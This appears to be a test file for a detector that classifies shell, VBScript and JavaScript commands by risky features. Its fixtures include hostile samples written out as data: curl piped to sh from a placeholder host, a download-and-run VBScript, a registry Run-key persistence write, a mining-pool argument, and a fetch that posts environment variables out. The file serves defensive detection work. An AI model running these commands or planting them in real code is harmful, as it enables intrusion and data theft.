import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { splitWords } from '../../../../src/analyses/command/shell-words.ts';
import { dialectOf, dialectOfContent, joinArgv } from '../../../../src/analyses/command.ts';
import { check } from './expect.ts';

describe('argument vectors', () => {
  const run = (args: string[], features: string, inner?: [string, string][]): void =>
    check('argv', joinArgv(args), inner ? { features, inner } : { features });
  run(['bash', '-c', 'curl http://a.invalid | sh'], 'download download-execute pipe-to-shell', [
    ['shell < bash -c', 'curl http://a.invalid | sh'],
  ]);
  run(['curl', 'http://a.invalid', '|', 'sh'], 'download');
  run(['powershell', '-w', 'hidden', '-c', 'Get-Date'], 'hidden-window');
  run(['…', '-m', 'pip', 'install', 'x'], 'package-install runs-python');
  run(['…', '-c', 'import os'], 'runs-python', [['python < python -c', 'import os']]);
  run(['«sys.executable.replace@3»', '-c', 'print(1)'], 'runs-python', [['python < python -c', 'print(1)']]);
  run(['curl', 'http://a.invalid/?k=«base64.b64encode@7»'], 'download send-data');
  run(['./run', '-o', 'xmr.nanopool.org:14444', '-u', 'w'], 'miner');
  run(['pgrep', 'xmrig'], '');
  run(['whoami'], 'host-identity');
  run(['env'], 'environment-dump');
  run(['env', 'A=1', 'make'], '');
  run(['C:\\Windows\\System32\\fodhelper.exe'], 'privilege');
  run(
    ['mshta', 'javascript:new ActiveXObject("WScript.Shell").Run("whoami")'],
    'host-identity living-off-the-land',
    [['javascript < mshta javascript:', 'new ActiveXObject("WScript.Shell").Run("whoami")']],
  );
  run(['git', 'log', '--format=%H | sh'], '');
  run([], '');
});

test('joined arguments split again', () => {
  for (const args of [
    ['a', 'b c', "it's", '"q"', '', '\\', 'a\\b', '\n', '$x', '…'],
    ['--x=1', '/tmp/a', "''"],
  ]) {
    assert.deepEqual(splitWords(joinArgv(args)), args);
  }
});

describe('VBScript', () => {
  check('vbscript', 'Set s = CreateObject("WScript.Shell")\ns.Run "cmd /c who" & "ami", 0', {
    features: 'hidden-window host-identity',
    programs: 'wscript cmd whoami',
  });
  check(
    'vbscript',
    'Set x = CreateObject("MSXML2.XMLHTTP")\nx.Open "GET", "http://a.invalid/a", False\nSet s = CreateObject("ADODB.Stream")\ns.SaveToFile "a.exe"\nCreateObject("WScript.Shell").Run "a.exe"',
    {
      features: 'download download-execute',
      urls: ['http://a.invalid/a'],
    },
  );
  check('vbscript', 's.RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\X", "a.exe"', {
    features: 'persistence',
  });
  check('vbscript', 'f.DeleteFile WScript.ScriptFullName', { features: 'file-delete self-delete' });
  check('vbscript', 's.Run Chr(119) & Chr(104) & Chr(111) & Chr(97) & Chr(109) & Chr(105)', {
    features: 'host-identity',
  });
  check('vbscript', `Execute(Decode(${Array.from({ length: 25 }, () => 'Chr(65)').join(' & ')}))`, {
    features: 'obfuscated',
  });
  check('vbscript', '\' s.Run "whoami"\nWScript.Echo "hello"', { features: '' });
});

describe('JavaScript', () => {
  check('javascript', "require('child_process').exec('curl http://a.invalid | sh')", {
    features: 'download download-execute pipe-to-shell',
  });
  check(
    'javascript',
    "const os=require('os');fetch(u,{method:'POST',body:JSON.stringify(process.env)+os.hostname()})",
    { features: 'environment-dump host-identity send-data' },
  );
  check(
    'javascript',
    `eval(atob('${Buffer.from("require('child_process').exec('whoami')").toString('base64')}'))`,
    {
      features: 'decode encoded-command host-identity',
      inner: [['javascript < eval < base64', "require('child_process').exec('whoami')"]],
    },
  );
  check('javascript', Array.from({ length: 30 }, (_, i) => `var _0x${(4096 + i).toString(16)}=1;`).join(''), {
    features: 'obfuscated',
  });
  check(
    'javascript',
    "fetch('/api',{method:'POST'});document.cookie='a=b';eval(x)",
    { features: '' },
    'a page script',
  );
  check(
    'javascript',
    "define(['require'],function(require){var a=require('./a');$.post('/x',process.env.NODE_ENV)})",
    { features: '' },
    'a bundle',
  );
});

test('the dialect of a member', () => {
  const CASES: [string, string, string | null][] = [
    ['a.sh', '', 'shell'],
    ['bin/run', '#!/usr/bin/env bash\n', 'shell'],
    ['x', '#!/bin/sh -e\n', 'shell'],
    ['x.PS1', '', 'powershell'],
    ['x.cmd', '', 'batch'],
    ['x.vbs', '', 'vbscript'],
    ['x.mjs', '', 'javascript'],
    ['run', '#!/usr/bin/env node\n', 'javascript'],
    ['run', '#!/usr/bin/env python3\n', null],
    ['a.txt', 'echo hi', null],
  ];
  for (const [path, text, expected] of CASES) assert.equal(dialectOf(path, text), expected, path);
});

test('the dialect of a text without a name', () => {
  const CASES: [string, string | null][] = [
    ['@echo off\r\nstart a.exe', 'batch'],
    ['Set s = CreateObject("WScript.Shell")', 'vbscript'],
    ['$p = 1\nStart-Process a', 'powershell'],
    ["const c = require('child_process');", 'javascript'],
    ['#!/bin/sh\nls', 'shell'],
    ['import os\nprint(1)\n', null],
    ['Some honest prose about the start of a process.', null],
  ];
  for (const [text, expected] of CASES) assert.equal(dialectOfContent(text), expected, text);
});
